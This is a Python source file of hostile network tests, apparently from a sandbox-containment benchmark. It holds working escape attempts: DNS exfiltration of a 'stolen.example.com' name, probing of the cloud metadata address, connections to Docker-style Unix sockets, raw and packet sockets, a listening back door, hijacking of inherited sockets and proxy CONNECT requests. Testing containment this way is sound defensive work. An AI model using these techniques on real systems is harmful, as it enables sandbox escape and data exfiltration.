"""Attacks on the network: each tries to reach a listener of the judge's, or to open a door of its own.

Every address is the judge's, except for one that no packet is sent to.
"""

from __future__ import annotations

import errno
import os
import socket
import struct
from contextlib import suppress
from typing import Any

from paddock.bench.hostile.attack import attack
from paddock.bench.hostile.attacks.attempt import Hostile

HELLO = b"hello from a hostile environment"
_PATIENCE_S = 2.0


def _greet(there: socket.socket) -> None:
    with suppress(OSError):  # the other side may hang up at once: it was reached all the same
        there.sendall(HELLO)


@attack("N01", "connects to a local service", "listener", {"host": "127.0.0.1", "port": "$port"})
@attack("N02", "connects over IPv6", "listener", {"host": "::1", "port": "$port6"})
@attack("N03", "connects to a machine's address", "listener", {"host": "$lan", "port": "$lan_port"})
class Connect(Hostile):
    """Connects to ``host`` and ``port`` and sends a few bytes."""

    def attempt(self) -> str:
        with socket.create_connection((self.arguments["host"], self.arguments["port"]), _PATIENCE_S) as connection:
            _greet(connection)
        return "connected"


@attack("N04", "looks for the cloud's metadata", "claim")
class Route(Hostile):
    """Asks for the way to the cloud's metadata service. No packet is sent: it may really be there."""

    def attempt(self) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
            there.connect(("169.254.169.254", 80))
            return f"reached: from {there.getsockname()[0]}"


@attack("N05", "carries data out by names", "listener", {"host": "$host", "datagram_port": "$datagram_port"})
class AskName(Hostile):
    """Asks the judge's name server for a name whose letters are the loot."""

    def attempt(self) -> str:
        labels = b"".join(bytes([len(one)]) + one for one in (b"stolen", b"example", b"com"))
        query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(query, (self.arguments["host"], self.arguments["datagram_port"]))
        return "asked"


@attack("N06", "connects to an abstract socket", "listener", {"path": "$abstract", "abstract": 1})
@attack("N07", "connects to a socket file", "listener", {"path": "$unix", "abstract": 0})
class ConnectUnix(Hostile):
    """Connects to a Unix socket by path, as to Docker's, or by an abstract name."""

    def attempt(self) -> str:
        with socket.socket(socket.AF_UNIX) as there:
            there.settimeout(_PATIENCE_S)
            there.connect(
                self.arguments["path"].replace("@", "\0", 1) if self.arguments["abstract"] else self.arguments["path"]
            )
            _greet(there)
        return "connected"


@attack("N08", "opens a raw socket", "claim", {"socket": [2, 3, 1]}, control_root=True)
@attack("N09", "opens a packet socket", "claim", {"socket": [17, 3, 768]}, control_root=True)
@attack("N10", "opens a vsock", "claim", {"socket": [40, 1, 0]})
@attack("N11", "opens a netlink socket", "claim", {"socket": [16, 3, 0]})
class OpenSocket(Hostile):
    """Opens a socket of a family that only drivers and spies use."""

    def attempt(self) -> str:
        family, kind, protocol = self.arguments["socket"]
        try:
            with socket.socket(family, kind, protocol):
                return "reached: a socket"
        except OSError as error:
            # Not here: the kernel was asked, and has no such family, which says nothing of a wall.
            if error.errno in (errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT):
                return f"reached: {errno.errorcode[error.errno]}"
            raise


@attack("N12", "opens a door to the host", "listener", {"free_port": "$free_port"})
class Listen(Hostile):
    """Waits for callers on ``port``: a back door."""

    door: socket.socket | None = None

    def attempt(self) -> str:
        if self.door is None:
            self.door = socket.socket()
            self.door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            self.door.bind(("127.0.0.1", self.arguments["free_port"]))
            self.door.listen()
        return "listens"

    def close(self) -> None:
        if self.door is not None:
            self.door.close()


@attack("N13", "turns inherited sockets around", "listener", {"host": "$host", "port": "$port"})
class ReuseSockets(Hostile):
    """Makes every inherited socket forget its peer and connects it to the judge's listener."""

    def attempt(self) -> str:
        for fd in range(3, 64):
            with suppress(OSError):
                sock = socket.socket(fileno=os.dup(fd))
                if sock.family not in (socket.AF_INET, socket.AF_INET6):
                    sock.close()
                    continue
                sock.connect((self.arguments["host"], self.arguments["port"]))
                return "connected"
        return Connect(**self.arguments).attempt()


@attack(
    "N14",
    "asks the proxy for another host",
    "listener",
    {"host": "$host", "port": "$port"},
    policy={"hosts": ["example.com:443"]},
    expected=frozenset({"denied", "contained", "refused"}),
)
class AskForProxy(Hostile):
    """Speaks HTTP to what may be a proxy: the variables that name one, then the usual ports."""

    def attempt(self) -> str:
        target: tuple[Any, Any] = self.arguments["host"], self.arguments["port"]
        request = f"CONNECT {target[0]}:{target[1]} HTTP/1.1\r\nHost: {target[0]}\r\n\r\n".encode()
        ports = [int(text.rsplit(":", 1)[1]) for text in map(os.environ.get, ("https_proxy", "HTTPS_PROXY")) if text]
        denial = OSError(errno.ECONNREFUSED, "no proxy")
        for port in (*ports, 3128, 8080, target[1]):
            try:
                with socket.create_connection(("127.0.0.1", port), _PATIENCE_S) as proxy:
                    proxy.sendall(request)
                    proxy.settimeout(0.2)
                    with suppress(OSError):
                        proxy.recv(64)
                    if port == target[1]:
                        return "connected"
            except OSError as error:
                denial = error
        raise denial
